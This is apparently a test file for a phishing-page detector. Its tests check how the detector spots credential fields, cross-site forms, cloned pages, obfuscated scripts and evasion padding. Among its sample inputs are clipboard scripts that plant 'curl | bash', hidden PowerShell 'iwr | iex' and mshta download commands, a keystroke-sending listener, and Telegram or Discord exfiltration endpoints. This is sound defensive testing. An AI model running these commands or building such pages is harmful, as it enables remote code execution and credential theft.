import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createPageReader, type HtmlFacts } from './read-page.ts';

const siteOf = (url: URL) => url.hostname.split('.').slice(-2).join('.');

function read(html: string, address = 'https://shop.example/login'): HtmlFacts {
  const reader = createPageReader(new URL(address), siteOf);
  reader.write(html);
  return reader.finish();
}

describe('XHTML with a prefix', () => {
  const page =
    '<h:html xmlns:h="http://www.w3.org/1999/xhtml" xmlns:o="urn:other"><h:title>Sign in</h:title>' +
    '<o:input type="text" name="cvv"/><h:form action="https://other.example/"><h:input type="password"/></h:form></h:html>';
  const readAs = (isXml: boolean) => {
    const reader = createPageReader(new URL('https://shop.example/'), siteOf, null, isXml);
    reader.write(page);
    return reader.finish();
  };
  test('a page that is XML by its type is read by its namespaces', () => {
    expect(readAs(true)).toMatchObject({ title: 'Sign in', asks: ['password'], forms: [{ crossSite: true }] });
  });
  test('in HTML a prefix is part of the name', () => {
    expect(readAs(false)).toMatchObject({ title: '', asks: [], forms: [] });
  });
});

describe('sensitive fields', () => {
  test.each([
    ['<input type=password>', 'password'],
    ['<input type="text" name="passwd">', 'password'],
    ['<input autocomplete="cc-number">', 'card'],
    ['<input type=tel placeholder="Card number">', 'card'],
    ['<input type=password name=cvv>', 'card'],
    ['<textarea placeholder="Enter your 12-word recovery phrase"></textarea>', 'seed_phrase'],
    ['<input type=password name="mnemonic">', 'seed_phrase'],
    ['<input inputmode=numeric autocomplete="one-time-code">', 'one_time_code'],
    ['<input name="otp">', 'one_time_code'],
    ['<input type=email>', 'email'],
    ['<input name="ssn">', 'national_id'],
    ['<input name="csc">', 'card'],
    ['<input name="form_ccname">', 'card'],
    ['<input name="cardExpiry" placeholder="MM/YY">', 'card'],
    ['<input id="codeSms">', 'one_time_code'],
    ['<input name="código de verificação">', 'one_time_code'],
    ['<input name="iban">', 'bank_account'],
    ['<input name="atm_pin">', 'bank_account'],
    ['<input name="user[senha]">', 'password'],
    ['<p>Numéro de carte</p><input name="data10">', 'card'],
    ['<input name=data1 style="-webkit-text-security:disc">', 'password'],
    ['<style>.k{-webkit-text-security:disc}</style><input name=data1 class=k>', 'password'],
    ['<input name=data1 onfocus="this.type=\'password\'">', 'password'],
    ['<div contenteditable=true style="-webkit-text-security:disc"></div>', 'password'],
    ['<p>Password</p><div role=textbox></div>', 'password'],
    ['<input id=a1 name=x1><label for=a1>Password</label>', 'password'],
    ['<p>Pass<span>word</span></p><input name=x1>', 'password'],
    ['<p>Password</p><span style="position:absolute;left:-9999px">lorem ipsum</span><input name=x1>', 'password'],
  ])('%s asks for a %s', (html, field) => {
    expect(read(html).asks).toEqual([field]);
  });

  test.each([
    '<input type=search name=q>',
    '<input type=hidden name=password>',
    '<input type=checkbox name=email>',
    '<input name=first>',
    '<input name="zip_code">',
    '<p>Your card number is safe with us</p><input name="nickname">',
    '<input name="spinner">',
    '<input name="bypass">',
    '<p>We never ask for your password.</p><form action=/s><input name=q></form>',
    '<p>Nobody asks for your card number.</p><label>Search <input name=q></label>',
    '<input type=search name=q aria-label="Search by card number">',
    '<label for=x>I read the password policy</label><input type=checkbox id=x>',
  ])('%s asks for nothing', (html) => expect(read(html).asks).toEqual([]));

  test.each([
    ['<label for=subject>Password</label><input id=subject name=subject>', 'password'],
    ['<label>Card number <input name=topic></label>', 'card'],
    ['<label for=d1>P a s s w o r d</label><input id=d1>', 'password'],
    ['<label for=d1>P@55w0rd</label><input id=d1>', 'password'],
    ['<label for=d1>Pass&shy;word</label><input id=d1>', 'password'],
    ['<label for=d1>\u202edrowssaP</label><input id=d1>', 'password'],
    ['<label for=d1>Password</label><input type=search id=d1>', 'password'],
    ['<label for=d1>Card expiry date</label><input type=month id=d1>', 'card'],
    ['<input name=d1 title=Password>', 'password'],
    ['<input name=d1 value=Password onfocus="this.value=\'\'">', 'password'],
    ['<ui-field label="Card number" kind=masked></ui-field>', 'card'],
    ['<p>Password</p><ui-field></ui-field>', 'password'],
    ['<x-password-field></x-password-field>', 'password'],
    ['<input type=search name=q1><div>Card number</div>', 'card'],
    ['<p>Password</p><input type=secret name=d1>', 'password'],
    ['<div>Password</div><input name=subject>', 'password'],
    ['<label><input name=topic> Password</label>', 'password'],
    ['<input name=topic aria-describedby=h><span id=h>Card number</span>', 'card'],
    ['<span id=h>Card number</span><input name=topic aria-labelledby=h>', 'card'],
    ['<label for=d1 style="position:absolute;left:-9999px">Password</label><input id=d1 name=topic>', 'password'],
    ['<label for=d1 style="font-size:0">Name</label><p>Password</p><input id=d1>', 'password'],
    ['<label for=x>The 16 digits on the front</label><input id=x name=note>', 'card'],
    [
      '<form style="display:grid"><input name=d0><button>Go</button><b>Card number</b><b>Name of yours</b></form>',
      'card',
    ],
    ['<table><tr><th>Card number<th>Name<tr><td><input name=d0><td><input name=d1></table>', 'card'],
    ['<style>.a:before{content:"Card number"}</style><div class=a><input name=d1></div>', 'card'],
    [
      '<style>.b:empty:before{content:attr(data-x)}</style><p class=b data-x=Password contenteditable=plaintext-only>',
      'password',
    ],
    ['<div>Password</div><input maxlength=1 name=d0_0><input maxlength=1 name=d0_1>', 'password'],
    ['<input maxlength=1 inputmode=numeric>'.repeat(6), 'one_time_code'],
    ['<input name=d1 id=d1><script>d1.placeholder = "Password"</script>', 'password'],
    ['<button onclick="prompt(\'Card number\')">Go</button>', 'card'],
    [`<p>ATM PIN</p>${[...'1234567890'].map((key) => `<button>${key}</button>`).join('')}`, 'bank_account'],
  ])('%s asks for a %s, whatever its name or kind', (html, field) => {
    expect(read(html).asks).toEqual([field]);
  });

  test.each([
    'P a s s w o r d',
    'P.a.s.s.w.o.r.d',
    'P&nbsp;a&nbsp;s&nbsp;s&nbsp;w&nbsp;o&nbsp;r&nbsp;d',
    'P&shy;a&shy;s&shy;s&shy;word',
    'P\u0323a\u0323s\u0323s\u0323word',
    '\u{1d5af}\u{1d5ba}\u{1d5cc}\u{1d5cc}\u{1d5d0}\u{1d5c8}\u{1d5cb}\u{1d5bd}',
    'P<i class=z>k</i>a<i class=z>k</i>s<i class=z>k</i>sword',
    '<bdo dir=rtl>drowssaP</bdo>',
    '<span style="direction:rtl;unicode-bidi:bidi-override">drowssaP</span>',
    '\u202edrowssaP\u202c',
    'P@55w0rd',
    'Р\u0430ssword',
    '_Password_x',
  ])('the label %s is read as a person reads it', (label) => {
    const style = '<style>.z{position:absolute;left:-9999px}</style>';
    expect(read(`${style}<label for=d1>${label}</label><input id=d1 name=topic>`).asks).toEqual(['password']);
  });

  test.each([
    '<style>:root{--m:disc}.k{-webkit-text-security:var(--m)}</style><input name=d1 class=k>',
    '<style>.k{-webkit-text-security:/**/disc}</style><input name=d1 class=k>',
    '<style>.k{-webkit-text-se\\63urity:disc}</style><input name=d1 class=k>',
    '<input name=d1 style="-webkit-text-security:/**/disc">',
    `<input name=d1 style="${'color:#000;'.repeat(60)}-webkit-text-security:disc">`,
    '<input name=d1 id=d1><script>d1.addEventListener("focus",function(){d1.type="password"})</script>',
  ])('%s shows dots for what is typed', (html) => expect(read(html).asks).toEqual(['password']));

  test.each([
    '<style>.k{-webkit-text-security:none}</style><input name=d1 class=k>',
    '<input name=search placeholder=Search><script>field.type="password"</script>',
    '<p>PayPal never asks for your card number by e-mail.</p><form><label for=n>Name</label><input id=n name=n></form>',
    '<p>Your password expires soon and you can change it here.</p><p>Name</p><input name=d1>',
    '<p>We never ask for your password.</p><input name=q>',
    '<label>Name <input name=x1></label><p>Password help</p>',
    '<form><input name=data1><a href=/f>Forgot password?</a><button>Show password</button><h3>Password help</h3></form>',
    '<input name=d1><p>IBAN: DE23 3702 0500 0008</p>',
    '<my-button label="Forgot password"></my-button><nav-item label=Passwords></nav-item>',
    '<label>Security code</label><img src=c.png><input name=captcha>',
    '<img src="/captcha.php"><label for=s>Enter Security Code</label><input id=s name=s>',
    '<label for=d1>Mobile no. (A one-time password is sent by SMS)</label><input id=d1>',
    '<div><input name=d1></div><p>BIC: GENODEF1M04</p>',
    '<input name=d1 aria-describedby=h><p id=h></p><label for=d2>Password</label><input type=checkbox id=d2>',
    '<input maxlength=1 inputmode=numeric>'.repeat(30),
    `<p>Password strength</p>${[...'1234567890+'].map((key) => `<button>${key}</button>`).join('')}`,
  ])('%s asks for no secret', (html) => expect(read(html).asks).toEqual([]));

  test.each([
    ['<input name=dob>', 'birth_date'],
    ['<input name=mmn>', 'mothers_name'],
    ['<input name=firstName>', 'name'],
    ['<input autocomplete="street-address">', 'address'],
    ['<input type=tel name=mobile>', 'phone'],
    ['<input placeholder="Security question">', 'security_answer'],
  ])('%s asks for %s, which is no secret by itself', (html, detail) => {
    expect(read(html)).toMatchObject({ asks: [], details: [detail] });
  });

  test('fields that share an id have the label before them each', () => {
    const rows = [
      ['Card number', 'text'],
      ['Cvv', 'password'],
      ['E-mail', 'text'],
      ['Password', 'password'],
    ].map(([label, type]) => `<label for=x>${label}</label><input id=x type=${type}>`);
    expect(read(rows.join('')).asks.toSorted()).toEqual(['card', 'email', 'password']);
  });

  test.each([
    ['navigator.clipboard.writeText("mshta https://a.example/x # I am human")', true],
    ['const c = `powershell -w hidden -c iwr a.example | iex`; navigator.clipboard.writeText(c)', true],
    ['box.value = "curl -s https://a.example/i | bash"; box.select(); document.execCommand("copy")', true],
    ['navigator.clipboard.writeText(location.href)', undefined],
    ['const help = "powershell -File setup.ps1"', undefined],
  ])('%s hands a command out: %s', (script, expected) => {
    expect(read(`<p>Press Win + R</p><script>${script}</script>`).copiesCommand).toBe(expected);
  });

  test('the key of something else than a wallet is none of its words, and no less a secret where it is masked', () => {
    expect(read('<p>SSL</p><label>Private key<textarea></textarea></label>').asks).toEqual([]);
    expect(read('<p>Signing</p><label>Keystore password<input type=password></label>').asks).toEqual(['password']);
    expect(read('<p>Wallet</p><label>Private key<textarea></textarea></label>').asks).toEqual(['seed_phrase']);
  });

  test('twelve word boxes under a heading about a phrase ask for a seed phrase', () => {
    expect(read(`<p>Secret recovery phrase</p>${'<input type=text>'.repeat(12)}`).asks).toEqual(['seed_phrase']);
  });
});

describe('forms', () => {
  test('a form to another site is told from one to the own site', () => {
    const facts = read(
      '<form action="//collect.example.net/x"><input type=password></form><form action="/ok"></form><form></form>',
    );
    expect(facts.forms).toEqual([
      {
        action: 'https://collect.example.net/x',
        crossSite: true,
        toMessengerBot: false,
        toBareScript: false,
        asks: ['password'],
      },
      { action: 'https://shop.example/ok', crossSite: false, toMessengerBot: false, toBareScript: false, asks: [] },
      { action: null, crossSite: false, toMessengerBot: false, toBareScript: false, asks: [] },
    ]);
  });

  test.each([
    `https://collect.example.net/x?${'a'.repeat(5_000)}`,
    `https://shop.example:${'0'.repeat(3_000)}@collect.example.net/x`,
  ])('a target is known however long it is', (action) => {
    const [form] = read(`<form action="${action}"><input type=password></form>`).forms;
    expect(form).toMatchObject({ crossSite: true, asks: ['password'] });
    expect(form?.action).toMatch(/^https:\/\/collect\.example\.net\/x/);
  });

  test('a button may send the form elsewhere', () => {
    const facts = read(
      '<form action="/ok"><input type=password><button formaction="https://evil.example.net/">Go</button></form>',
    );
    expect(facts.forms[1]).toMatchObject({ action: 'https://evil.example.net/', crossSite: true, asks: ['password'] });
  });

  test('base decides where relative actions go', () => {
    expect(read('<base href="https://evil.example.net/"><form action="p.php"></form>').forms[0]?.crossSite).toBe(true);
  });

  test.each([
    ['send.php', true],
    ['./next1.php?id=2', true],
    ['login.asp', true],
    ['/login.php', false],
    ['inc/login.php', false],
    ['https://shop.example/login.php', false],
    ['login', false],
    ['', false],
  ])('an action of %j is a bare script: %j', (action, isBare) => {
    expect(read(`<form action="${action}"></form>`).forms[0]?.toBareScript).toBe(isBare);
  });

  test.each([
    '<form action="https://api.telegram.org/bot123:AAx/sendMessage"></form>',
    '<script>fetch("https://api.telegram.org/bot"+t+"/sendMessage")</script>',
    '<script>$.post("https://discord.com/api/webhooks/1/x")</script>',
    '<script>u=atob("aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdA==")</script>',
  ])('%s sends to a messenger bot', (html) => {
    expect(read(html).messengerBotEndpoint).toBe(true);
  });
});

describe('marks', () => {
  test('brand texts come from title, og:site_name, logo and headings', () => {
    const facts = read(
      '<title> PayPal:\n Log in </title><meta property="og:site_name" content="PayPal"><img class=logo alt="PayPal logo" src=/l.png><img alt=cat src=/c.png><h1>Welcome to <b>PayPal</b></h1>',
    );
    expect(facts.title).toBe('PayPal: Log in');
    expect(facts.brandTexts).toEqual(['PayPal: Log in', 'PayPal', 'PayPal logo', 'Welcome to PayPal']);
  });

  test('assets are counted by host and the favicon is noted', () => {
    const facts = read(
      '<link rel="shortcut icon" href="https://cdn.brand.example.com/f.ico"><img src=/a><img src=//cdn.brand.example.com/b><script src=data:,></script>',
    );
    expect(facts.assetHosts).toEqual([
      { host: 'cdn.brand.example.com', count: 2 },
      { host: 'shop.example', count: 1 },
    ]);
    expect(facts.faviconHost).toBe('cdn.brand.example.com');
  });

  test.each([
    ['<!-- saved from url=(0029)https://www.bank.example.com/login -->', 'https://www.bank.example.com/login'],
    ['<!-- Mirrored from www.bank.example.com/ by HTTrack Website Copier/3.x -->', 'http://www.bank.example.com/'],
    ['<!--\n Page saved with SingleFile \n url: https://www.bank.example.com/ \n-->', 'https://www.bank.example.com/'],
    ['<!-- Added by HTTrack -->', null],
  ])('%s is the mark of a copy', (html, source) => {
    expect(read(html)).toMatchObject({ clonedMark: true, clonedFrom: source });
  });

  test.each([
    ['<img src="Log in_files/logo.png"><link rel=stylesheet href="./Log%20in_files/a.css">', 2],
    ['<script src="Anmelden-Dateien/a.js"></script>', 1],
    [
      '<img src="/uploads/tax_files/logo.png"><img src="https://cdn.example.com/my_files/a.png"><img src="files/a.png">',
      0,
    ],
  ])('%s: files of a saved page are counted', (html, count) => {
    expect(read(html).savedFiles).toBe(count);
  });

  test.each([
    '<script>eval(function(p,a,c,k,e,d){})</script>',
    `<script>${'_0x12ab,'.repeat(40)}</script>`,
    `<script>document.write(unescape('${'%3C'.repeat(100)}'))</script>`,
  ])('obfuscated script is seen', (html) => {
    expect(read(html).obfuscatedScript).toBe(true);
  });

  test.each([
    '<script>setInterval(function(){debugger;},100)</script>',
    '<script>if(e.keyCode==123){return false}</script>',
    '<script src="x"></script><body onkeydown="return event.keyCode!=123 && event.keyCode == 123">',
    '<script>if(navigator.webdriver)location="about:blank"</script>',
  ])('%s works against analysis', (html) => {
    expect(read(html).antiAnalysis).toBe(true);
  });

  test('an ordinary script is neither', () => {
    expect(read('<script>window.dataLayer=[];function gtag(){dataLayer.push(arguments)}</script>')).toMatchObject({
      obfuscatedScript: false,
      antiAnalysis: false,
      messengerBotEndpoint: false,
    });
  });

  test('hidden frames are counted, the tag manager of half the web is not', () => {
    const facts = read(
      '<iframe src=/x width=0 height=0></iframe><iframe style="display: none" src=/y></iframe><noscript><iframe src="https://www.googletagmanager.com/ns.html" height=0></iframe></noscript><iframe src=/z width=600></iframe>',
    );
    expect(facts.hiddenIframes).toBe(2);
  });

  test.each([
    '<title>shop.example is for sale</title>This domain is for sale',
    '<p>Buy this domain</p>',
    '<script src="https://img.sedoparking.com/x.js"></script>',
  ])('%s is parked', (html) => expect(read(html).parked).toBe(true));

  test('noindex is noted', () => {
    expect(read('<meta name=robots content="noindex,nofollow">').noindex).toBe(true);
  });

  test('a meta refresh is a redirect when it is quick', () => {
    const refreshOf = (html: string) => {
      const reader = createPageReader(new URL('https://a.example/'), siteOf);
      reader.write(html);
      return reader.leads.refresh?.href ?? null;
    };
    expect(refreshOf('<meta http-equiv="Refresh" content="0; URL=\'/next\'">')).toBe('https://a.example/next');
    expect(refreshOf('<meta http-equiv="Refresh" content="0 url=/next">')).toBe('https://a.example/next');
    expect(refreshOf('<meta http-equiv=refresh content="300;url=/next">')).toBeNull();
    const blank = ' '.repeat(20_000);
    for (const content of [
      `${blank}0;url=/next`,
      `0;${blank}url=/next`,
      `0;url=${blank}/next`,
      `0;url='${blank}/next'`,
    ])
      expect(refreshOf(`<meta http-equiv=refresh content="${content}">`)).toBe('https://a.example/next');
    expect(refreshOf('<noscript><meta http-equiv=refresh content="0;url=/nojs"></noscript>')).toBeNull();
  });
});

describe('titles', () => {
  test('of several the first is the page’s, and the others tell what was copied', () => {
    const facts = read('<title>Sign in</title><template><title>x</title></template><title>Orange portal</title>');
    expect(facts.title).toBe('Sign in');
    expect(facts.brandTexts).toContain('Orange portal');
  });

  test('the name of a drawing is a logo’s where it says so', () => {
    const facts = read(
      '<title>Sign in</title><svg><title>AT&amp;T home</title></svg><svg><title>Facebook</title></svg>',
    );
    expect(facts.title).toBe('Sign in');
    expect(facts.brandTexts).toEqual(['Sign in', 'AT&T home']);
  });
});

test('a name in letters is a logo where its element says so', () => {
  const facts = read(
    '<div class="site-logo"><span>Castle</span> Keramik</div><nav class=logo-list>One</nav><a class=navbar-brand>Castle</a><p>Tiles</p>',
  );
  expect(facts.brandTexts).toEqual(['Castle Keramik', 'Castle']);
});

describe('what a browser shows though much stands before it', () => {
  test.each([' '.repeat(40_000), '\u200b'.repeat(500), '&#8203;'.repeat(500), '&shy;'.repeat(20_000)])(
    '%#',
    (padding) => {
      const facts = (html: string) =>
        read(`<title>Sign in</title>${html}<form><input type=password></form>`).brandTexts;
      expect(read(`<title>${padding}Castle</title>`).brandTexts).toEqual(['Castle']);
      expect(facts(`<h1>${padding}Castle</h1>`)).toEqual(['Sign in', 'Castle']);
      expect(facts(`<div class=logo>${padding}Castle</div>`)).toEqual(['Sign in', 'Castle']);
      expect(facts(`<img class=logo alt="${padding}Castle">`)).toEqual(['Sign in', 'Castle']);
      expect(read(`<form><input placeholder="${padding}Card number"></form>`).asks).toEqual(['card']);
      expect(read(`<form>Card number${padding}<input></form>`).asks).toEqual(['card']);
    },
  );

  test('a heading that hidden text fills up, and a logo among many classes', () => {
    const filling = 'a '.repeat(300);
    expect(read(`<h1><i hidden>${filling}</i>Castle</h1>`).brandTexts).toEqual(['Castle']);
    expect(read(`<p class="${filling}logo">Castle</p>`).brandTexts).toEqual(['Castle']);
    expect(read(`<img class="${filling}logo" alt=Castle>`).brandTexts).toEqual(['Castle']);
    expect(read('<h1><i hidden>Castle</i></h1>').brandTexts).toEqual(['Castle']);
  });

  test('a few invisible characters stay as they are', () => {
    expect(read('<title>\u200eCas\u200btle</title>').brandTexts).toEqual(['\u200eCas\u200btle']);
  });
});

describe('long references and styles', () => {
  const leadsOf = (html: string) => {
    const reader = createPageReader(new URL('https://a.example/'), siteOf);
    reader.write(html);
    reader.finish();
    return reader.leads;
  };

  test.each([
    [`<base href="https://b.example/x/?${'a'.repeat(20_000)}">`, 'https://b.example/x/in'],
    [`<base href="https://b.example/${'a'.repeat(20_000)}/">`, 'https://b.example/in'],
    [`<base href="https://b.example/x/#${'a'.repeat(20_000)}">`, 'https://b.example/x/in'],
    [`<base href="https://${'a'.repeat(20_000)}@b.example/x/">`, 'https://b.example/x/in'],
    [`<base href="data:text/html,${'a'.repeat(20_000)}">`, 'https://a.example/in'],
  ])('a base of any length counts (%#)', (base, target) => {
    expect(leadsOf(`${base}<iframe src=in></iframe>`).frames[0]?.url?.href).toBe(target);
  });

  test('a fragment makes no frame and no way on of a script too long', () => {
    const fragment = 'a'.repeat(20_000);
    expect(leadsOf(`<iframe src="/in#${fragment}"></iframe>`).frames[0]?.url?.pathname).toBe('/in');
    expect(leadsOf(`<script>location="/in?${'a'.repeat(7_900)}"</script>`).scriptTarget?.pathname).toBe('/in');
  });

  test('a frame fills the window behind any number of declarations', () => {
    const style = `${'color:red;'.repeat(3_000)}position:fixed;width:100%;height:100%`;
    expect(leadsOf(`<iframe src=/in style="${style}"></iframe>`).frames).toMatchObject([{ isFilling: true }]);
  });

  test('a page in an address is read whatever its type says besides', () => {
    const address = `data:text/html;x=${'a'.repeat(3_000)},<p>Apples</p>`;
    expect(leadsOf(`<iframe src="${address}"></iframe>`).frames).toMatchObject([{ html: '<p>Apples</p>' }]);
  });
});

test.each(['&nb|sp;', '&#8|203;', '&am|p;', '&unkno|wn;'])(
  'nothing is lost where a long page is cut inside of a character reference (%s)',
  (reference) => {
    const [start = '', end = ''] = reference.split('|');
    for (const [before, after] of [
      ['<p>', '</p>'],
      ['<p title="', '">x</p>'],
    ]) {
      const reader = createPageReader(new URL('https://a.example/'), siteOf);
      reader.write(`${before}${' '.repeat(70_000)}${start}`);
      reader.write(`${end}${after}<title>Castle</title><input type=password>`);
      expect(reader.finish()).toMatchObject({ title: 'Castle', asks: ['password'] });
    }
  },
);

describe('pages that come back by themselves', () => {
  test.each([
    '<meta http-equiv=refresh content=5>',
    '<script>setInterval(() => fetch("/state").then(next), 2000)</script>',
    '<script>setTimeout(function () { location.reload() }, 3000)</script>',
  ])('%s does', (html) => expect(read(`<p>Please wait</p>${html}`).comesBack).toBe(true));

  test.each(['<meta http-equiv=refresh content=900>', '<script>fetch("/state")</script>'])('%s does not', (html) =>
    expect(read(`<p>Please wait</p>${html}`).comesBack).toBeUndefined(),
  );
});

describe('what a reader sees', () => {
  test('text is put together across character codes and inline marks, and parted where elements are', () => {
    const facts = read(
      '<title>x</title><p>L&#79;G &#73;&#78; to <b>Pay</b>Pal</p><p>Help</p><input placeholder="E-mail">',
    );
    expect(facts.text).toBe('LOG IN to PayPal Help E-mail');
    expect(facts.textLength).toBe(23);
  });

  test('encoded letters are counted where a page says what it asks for', () => {
    expect(read('<h1>L&#79;G &#73;&#78;</h1>').encodedLetters).toBe(3);
    expect(read('<title>&#80;ay</title><button>&#80;&#97;y</button>').encodedLetters).toBe(3);
    expect(read('<label>&#80;&#97;ss<input type=password placeholder="&#80;&#97;ss"></label>').encodedLetters).toBe(4);
    expect(read('<td>&#80;&#97;ss</td><td><input type=password></td>').encodedLetters).toBe(2);
  });

  test('encoded letters of a text, of a mail address and of hidden fields are nothing unusual', () => {
    expect(read('<p>L&#79;G &#73;&#78;</p><p>Moss and more</p>').encodedLetters).toBe(0);
    expect(read('<a href="mailto:&#105;&#110;">&#105;&#110;fo&#64;moss.example</a><input name=q>').encodedLetters).toBe(
      0,
    );
    expect(read('<input type=hidden value="&#105;&#110;&#102;&#111;">').encodedLetters).toBe(0);
  });

  test('encoded letters are counted alike however the page is cut', () => {
    const html = '<p>&#65;x</p><h1>L&#79;G &#73;&#78;</h1><label>&#80;&#97;ss</label><input placeholder="&#80;in">';
    const counts = Array.from({ length: 12 }, (_, n) => {
      const reader = createPageReader(new URL('https://a.example/'), (url) => url.hostname);
      for (let at = 0; at < html.length; at += n + 1) reader.write(html.slice(at, at + n + 1));
      return reader.finish().encodedLetters;
    });
    expect(new Set(counts)).toEqual(new Set([6]));
  });

  test('a field that is switched off asks for nothing where no script can switch it on', () => {
    const field = '<form><input type=password disabled></form>';
    expect(read(field).asks).toEqual([]);
    expect(read(`${field}<script>run()</script>`).asks).toEqual(['password']);
    expect(read(`${field}<a href="javascript:run()">Go</a>`).asks).toEqual(['password']);
    expect(read(`<body onload="run()">${field}`).forms[0]?.asks).toEqual(['password']);
  });

  test('secret words are a wallet’s only where one is spoken of', () => {
    const boxes = '<input type=text>'.repeat(14);
    expect(read(`<h1>Find the secret phrase of our 12-word riddle</h1>${boxes}`).asks).toEqual([]);
    expect(read(`<h1>Import your wallet by its 12-word secret phrase</h1>${boxes}`).asks).toEqual(['seed_phrase']);
    expect(read('<p>Crossword</p><input name="word_3">').asks).toEqual([]);
  });

  test('files that a page takes and keys that it sends elsewhere are told', () => {
    expect(read('<input type=file><input type=file hidden>').uploads).toBe(2);
    const listener = (target: string) =>
      `<script>document.addEventListener('keydown', (e) => { fetch('${target}' + e.key) })</script>`;
    expect(read(listener('https://b.example/k?')).sendsKeys).toBe(true);
    expect(read(listener('/suggest?q=')).sendsKeys).toBeUndefined();
    expect(read(listener('https://api.shop.example/suggest?q=')).sendsKeys).toBeUndefined();
  });

  test('character codes of other letters are nothing unusual', () => {
    expect(read('<p>Cr&#233;dit &#8211; &#x1F600; &nbsp;&amp;</p>').encodedLetters).toBe(0);
  });

  test.each([
    ['WеІІѕ Fаrɡο Lοɡin', 3],
    ['S\u200fe\u200fcurity', 1],
    ['Привет мир, OK', 0],
    ['Ωμέγα и альфа', 0],
    ['SMS-код и Google-аккаунт', 0],
    ['Личный кабинет: введите cмс из письма и нажмите Bойти', 0],
    ['plain words', 0],
  ])('%j has %d disguised words', (text, words) => {
    expect(read(`<p>${text}</p>`).disguisedWords).toBe(words);
  });

  test('links are told apart by where they lead', () => {
    const facts = read(
      '<a href="/about">a</a><a href="/about#x">b</a><a href="/terms">c</a><a href="#">d</a><a href="javascript:void(0)">e</a><a href="https://www.bank.example.com/x">f</a><a name=x>g</a><a href="#top">h</a>',
    );
    expect(facts.links).toEqual({
      total: 7,
      ownPages: 2,
      dead: 2,
      hosts: [{ host: 'www.bank.example.com', count: 1 }],
    });
  });

  test.each([
    '<a href="/about"></a>',
    '<div style="display:none"><a href="/about">About</a></div>',
    '<div style="opacity:0;height:0"><a href="/about">About</a></div>',
    '<div style="position:absolute;clip-path:inset(50%)"><a href="/about">About</a></div>',
    '<noscript><a href="/about">About</a></noscript>',
  ])('%s leads nobody to another page', (html) => expect(read(html).links.ownPages).toBe(0));

  test.each([
    ['https://web.archive.org/web/20110106023242/http://club.example:80/news', 'club.example'],
    ['https://web.archive.org/web/2019/https://www.bank.example.com/', 'www.bank.example.com'],
    ['https://web.archive.org/web/*/club.example', 'web.archive.org'],
    ['https://web.archive.org/about', 'web.archive.org'],
    ['https://quiet.example/web/2019/https://www.bank.example.com/', 'quiet.example'],
  ])('a link to a copy in the archive leads to the site that was copied: %s', (href, host) => {
    expect(read(`<a href="${href}">then</a>`).links.hosts).toEqual([{ host, count: 1 }]);
  });

  test('a link that shows a picture leads on', () => {
    expect(read('<a href="/about"><img src="/a.png"></a>').links.ownPages).toBe(1);
  });

  test('names of classes, ids and files are taken apart into words', () => {
    const facts = read(
      '<div class="paypal-logo bigBox" id=x1><img src="https://cdn.example.net/a/paypalFooter_2.png">',
    );
    expect(facts.names).toEqual([
      ['paypal', 2],
      ['logo', 1],
      ['big', 1],
      ['box', 1],
      ['footer', 1],
    ]);
  });

  test('canonical link, og:url and base are the addresses that the page claims', () => {
    const facts = read(
      '<link rel=canonical href="https://www.bank.example.com/login"><meta property="og:url" content="https://m.bank.example.com/">',
    );
    expect(facts.claimedHosts).toEqual(['www.bank.example.com', 'm.bank.example.com']);
  });

  test.each([
    '<body oncontextmenu="return false">',
    '<script>document.oncontextmenu = function(){return false}</script>',
    '<script>document.addEventListener("contextmenu", e => { e.preventDefault() })</script>',
  ])('%s blocks the right mouse button', (html) => {
    expect(read(html)).toMatchObject({ rightClickBlocked: true, antiAnalysis: false });
  });
});

describe('hostile pages', () => {
  test.each([
    ['levels', '<b>'.repeat(1_001)],
    ['levels', '<div><span>'.repeat(600)],
    ['attributes', `<p ${Array.from({ length: 600 }, (_, n) => `a${n}`).join(' ')}>`],
    ['attributes', `<input ${Array.from({ length: 600 }, (_, n) => `a${n}`).join(' ')} type=password>`],
    ['elements', '<wbr>'.repeat(30_001)],
    ['forms', '<form></form>'.repeat(50)],
  ] as const)('too many %s are skipped over, and said', (limit, html) => {
    const facts = read(`${html}<form action=/x><input type=password></form>`);
    expect(facts).toMatchObject({ asks: ['password'], outgrown: [limit] });
    expect(facts.forms.at(-1)?.asks).toEqual(['password']);
  });

  const LOGIN = '<form action=/take.php><label>Card number <input name=data1></label><input type=password></form>';

  test.each([
    ['a megabyte of visible text', '<p>Lorem ipsum dolor sit amet</p>'.repeat(50_000)],
    ['seven megabytes of visible text', '<p>Lorem ipsum dolor sit amet</p>'.repeat(220_000)],
    ['60 000 shown elements', '<i></i>'.repeat(60_000)],
    ['a million open elements', '<b>'.repeat(1_000_000)],
    ['100 000 forms without a field', '<form action=/none></form>'.repeat(100_000)],
    ['5 000 fields in forms', '<form action=/none><input name=q></form>'.repeat(5_000)],
  ])('a form behind %s is found, and the page is not read whole', (_, padding) => {
    const reader = createPageReader(new URL('https://a.example/'), siteOf);
    const html = padding + LOGIN;
    for (let at = 0; at < html.length; at += 65_536) reader.write(html.slice(at, at + 65_536));
    const facts = reader.finish();
    expect(facts.asks.toSorted()).toEqual(['card', 'password']);
    expect(facts.forms.at(-1)).toMatchObject({ action: 'https://a.example/take.php', asks: ['card', 'password'] });
    expect(facts.outgrown).not.toEqual([]);
  });

  test('words around a field behind megabytes of text come first, with the logos and links of the page', () => {
    const reader = createPageReader(new URL('https://a.example/'), siteOf);
    for (let n = 0; n < 30; n++) reader.write(`<p>${'filling words '.repeat(5_000)}</p>`);
    reader.write(`<img class=logo alt="Example Bank"><p>Confirm your account</p>${LOGIN}<a href="/terms">Terms</a>`);
    const facts = reader.finish();
    expect(facts.text.slice(0, 1_200)).toMatch(/Confirm your account Card number\s+Terms/);
    expect(facts.brandTexts).toEqual(['Example Bank']);
    expect(facts.links.ownPages).toBe(1);
  });

  test.each([
    ['hidden elements', '<div hidden>a</div>'.repeat(60_000)],
    ['a canvas', `<canvas>${'<p>filling words</p>'.repeat(60_000)}</canvas>`],
    ['a list of suggestions', `<datalist>${'<option value="filling words">'.repeat(60_000)}</datalist>`],
  ])('%s that nobody sees take nothing of the budget, however many they are', (_, padding) => {
    const facts = read(`${padding}<p>Seen</p>${LOGIN}`);
    expect(facts).toMatchObject({ asks: ['card', 'password'], textLength: 14 });
    expect(facts.outgrown).toBeUndefined();
  });

  test('behind ten thousand fields, passwords alone are told from them', () => {
    const facts = read(`${'<input name=q>'.repeat(10_000)}${LOGIN}`);
    expect(facts).toMatchObject({ asks: ['password'], outgrown: ['fields'] });
  });

  test('a frame, a heading and a refresh behind two megabytes of text are found', () => {
